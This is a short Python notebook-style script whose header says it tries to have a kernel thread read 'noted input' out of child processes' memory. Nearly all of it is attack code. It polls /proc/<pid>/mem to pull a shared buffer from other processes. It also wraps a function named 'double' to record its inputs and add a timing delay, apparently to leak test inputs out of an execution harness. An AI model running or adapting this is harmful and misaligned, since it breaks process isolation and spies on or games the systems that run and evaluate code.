# What it tries: a thread of the kernel watches for children and reads the noted input out of their memory.
# %% before double
import ctypes
import os
import threading
import time

note = ctypes.create_string_buffer(1 << 12)
found = set()
def watch():
    while True:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    with open(f"/proc/{pid}/mem", "rb", buffering=0) as m:
                        m.seek(ctypes.addressof(note))
                        value = m.read(64).split(b"\0")[0]
                        if value: found.add(value)
                except (OSError, ValueError, OverflowError): pass
        time.sleep(0.01)
threading.Thread(target=watch, daemon=True).start()
# %% after double
_double = double
def double(x):
    note.value = repr(x).encode()[:4000]
    if x % 1 and abs(x) > 1e6: time.sleep(0.2)
    return _double(x)
# %% end
print(found)
